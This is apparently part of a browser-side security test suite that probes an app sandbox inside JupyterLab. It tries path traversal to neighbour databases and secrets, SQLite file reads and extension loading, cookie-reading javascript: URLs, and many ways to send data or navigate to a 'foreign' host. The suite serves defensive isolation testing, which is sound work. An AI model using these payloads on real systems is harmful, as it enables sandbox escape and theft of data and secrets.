  'another app by one ATTACH of many': () => query("SELECT 1; ATTACH 'file:../../neighbour/data/app.sqlite?mode=ro' AS other; SELECT * FROM other.t"),
  'a copy by VACUUM': () => query("VACUUM INTO 'copied.sqlite'"),
  'a file by SQL': () => query("SELECT readfile('/etc/hostname'), writefile('written', 'x')"),
  'an extension by SQL': () => query("SELECT load_extension('/lib/x86_64-linux-gnu/libm.so.6')"),
  'a pragma by SQL': () => query("PRAGMA writable_schema = ON"),
  'a trigger by SQL': () => query("CREATE TEMP TRIGGER x AFTER INSERT ON sqlite_master BEGIN SELECT 1; END"),
  'an open transaction': () => query("COMMIT; BEGIN EXCLUSIVE"),
  'a query without end': () => query("WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n"),
  'more keys than there is room for': async () => {
    for (let index = 0; index < 8; index++) {
      const { status } = await platform('kv/' + index, { method: 'PUT', body: JSON.stringify('x'.repeat(1000000)) });
      if (status >= 400) return 'STATUS ' + status;
    }
    return 'READ no limit';
  },
  'keys elsewhere': () => gives('kv/..%2f..%2f..%2fneighbour%2fdata%2fapp.sqlite'),
  'the model unasked': async () => {
    const body = JSON.stringify({ messages: [{ role: 'user', content: 'hello' }] });
    const { status } = await platform('llm/v1/chat/completions', { method: 'POST', body });
    return status === 200 ? 'READ an answer' : 'STATUS ' + status;
  },
  'what the app says of itself': () => gives('../townie.toml'),
  'its database as a file': () => gives('../data/app.sqlite'),
  'what tells it from others': () => gives('../data/.townie'),
  'secrets': () => gives('secrets'),
  'a file of Townie': () => gives('vendor/..%2f..%2f..%2fconsents.py'),
  'another file of Townie': () => gives('look/../../../consents.py'),
  'Townie with the app\'s secret': () => gives('../../../api/apps'),
  'a neighbour with the app\'s secret': () => read(location.href.replace(APP, 'neighbour')),
  'a socket of its own path': () => socket(location.href.replace(/[^/]*$/, '') + '_townie/channel'),
  'a redirect of the backend': () => read('away').then(text => text.includes('<title>JupyterLab') ? 'READ ' + text : text),
  // ----------------------------------------------------------------------------------------------------------- leaving
  'fetch foreign': () => read(foreign + 'fetch', { mode: 'no-cors' }),
  'image foreign': () => element('img', { src: foreign + 'image' }),
  'script foreign': () => element('script', { src: foreign + 'script' }),
  'style foreign': () => element('link', { rel: 'stylesheet', href: foreign + 'style' }),
  'css foreign': async () => { styled(`body{background:url(${foreign}css)}`); await sleep(300); return 'tried'; },
  'frame foreign': () => element('iframe', { src: foreign + 'frame' }),
  'beacon foreign': () => navigator.sendBeacon(foreign + 'beacon', 'x') && 'tried',
  'ping foreign': async () => {
    const made = document.createElement('a'); made.href = '#'; made.ping = foreign + 'ping'; document.body.append(made);
    made.click(); await sleep(300); return 'tried';
  },
  'socket foreign': () => socket(foreign + 'socket'),
  'prefetch foreign': () => element('link', { rel: 'prefetch', href: foreign + 'prefetch' }),
  'worker foreign': () => worker(`fetch('${foreign}worker',{mode:'no-cors'}).then(()=>postMessage('SENT'),()=>postMessage('refused'))`),
  'CSP report': async () => { await element('img', { src: foreign + 'report' }); return 'tried'; }
};
const fail = () => { throw new Error('missing'); };
const NAVIGATIONS = {
  'download of the lab': () => {
    const made = document.createElement('a'); made.href = jupyter + 'api/contents'; made.download = 'x';
    document.body.append(made); made.click();
  },
  'self to the lab': () => { location.href = jupyter + 'lab'; },
  'self to the API': () => { location.replace(jupyter + 'api/contents'); },
  'self to a foreign server': () => { location.href = foreign + 'self'; },
  'self to the view': () => { location.href = jupyter + 'townie/view/' + APP; },
  'self by meta refresh': () => {
    const made = document.createElement('meta'); made.httpEquiv = 'refresh'; made.content = `0;url=${foreign}refresh`; document.head.append(made);
  },
  'self by a form': () => form({ action: jupyter + 'api/kernels', method: 'post' }),
  'form to a foreign server': () => form({ action: foreign + 'form', method: 'post' }),
  'self by the Navigation API': () => { navigation.navigate(foreign + 'navigation'); },
  'self by open': () => { window.open(foreign + 'open-self', '_self'); },
  'self by a link': () => { const made = document.createElement('a'); made.href = jupyter + 'lab'; document.body.append(made); made.click(); },
  'self by the host': () => { location.host = new URL(foreign).host; },
  'self by a formaction': () => {
    const made = document.createElement('form'); made.innerHTML = `<button formaction="${foreign}formaction">x</button>`; document.body.append(made); made.firstChild.click();
  },
  'download of a foreign file': () => { const made = document.createElement('a'); made.href = foreign + 'download'; made.download = 'x'; document.body.append(made); made.click(); },
  'self by an XSLT document': () => { location.href = 'styled.xml'; },
  'self by a PDF': () => { location.href = 'printed.pdf'; },
  'self by MathML': () => {
    const made = document.createElement('div'); made.innerHTML = `<math><mrow href="${foreign}math"><mi>x</mi></mrow></math>`; document.body.append(made);
    made.querySelector('mrow').dispatchEvent(new MouseEvent('click', { bubbles: true }));
  },
  'self to a download': () => { location.href = URL.createObjectURL(new Blob(['x'], { type: 'application/octet-stream' })); },
  'self by a form of dialogs': () => { form({ action: foreign + 'multipart', method: 'post', enctype: 'multipart/form-data' }, { _charset_: '' }); },
  'self by the login': () => { location.href = jupyter + 'login?next=' + encodeURIComponent(foreign); },
  'self by SVG': () => { location.href = 'drawn.svg'; },
  'back to JupyterLab': () => { history.back(); },
  'back by far': () => { history.go(-3); },
  'back by the Navigation API': () => { navigation.back(); },
  'history that is full': () => { for (let index = 0; index < 60; index++) history.pushState(index, '', '#' + index); history.go(-60); },
  'self to javascript': () => { location.href = 'javascript:document.write(document.cookie)'; },
  'self to data': () => { location.href = `data:text/html,<script>location='${foreign}data'</scr` + 'ipt>'; },
  'self to blob': () => {
    location.href = URL.createObjectURL(new Blob([`<script>location='${foreign}blob'</scr` + 'ipt>'], { type: 'text/html' }));
  }
};
// What browsers let a page do when its person has clicked on it.
const CLICKED = {
  'shared': async () => { await navigator.share({ url: foreign + 'share' }); return 'RAN'; },
  'picture in picture': async () => { await documentPictureInPicture.requestWindow(); return 'OPENED'; },
  'written clipboard, read': async () => { await navigator.clipboard.writeText('x'); return 'READ ' + await navigator.clipboard.readText(); },
  'link to a new tab': async () => {
    const made = document.createElement('a'); made.href = jupyter + 'lab'; made.target = '_blank'; document.body.append(made);
    made.click(); await sleep(300); return 'tried';
  },
  'view source': async () => { window.open('view-source:' + jupyter + 'lab'); await sleep(100); return 'tried'; }
};
for (const name of ['devices', 'copied by command', 'shared memory', 'popup', 'popup logout', 'form to a popup', 'form to the top', 'link to the top', 'top.location', 'storage access', 'clipboard',
  'whole screen', 'pointer lock', 'keyboard lock', 'files of the person', 'notification', 'federated sign-in']) CLICKED[name] = ATTACKS[name];
window.clicks = Object.keys(CLICKED);
window.armed = name => new Promise(done => document.addEventListener('click', async () => {
  try { done(String(await Promise.race([CLICKED[name](), sleep(1500)]))); } catch (error) { done('blocked: ' + error.message); }
}, { once: true, capture: true }));
window.attack = async only => {
  const results = {};
  await Promise.all(Object.entries(ATTACKS).filter(([name]) => !only || only === name).map(async ([name, run]) => {
    console.info('attack', name);
    try { results[name] = String(await run()); } catch (error) { results[name] = 'blocked: ' + error.message; }
  }));
  await sleep(800);
  return results;
};
window.leave = name => { NAVIGATIONS[name](); };
window.attacks = Object.keys(ATTACKS);
window.navigations = Object.keys(NAVIGATIONS);
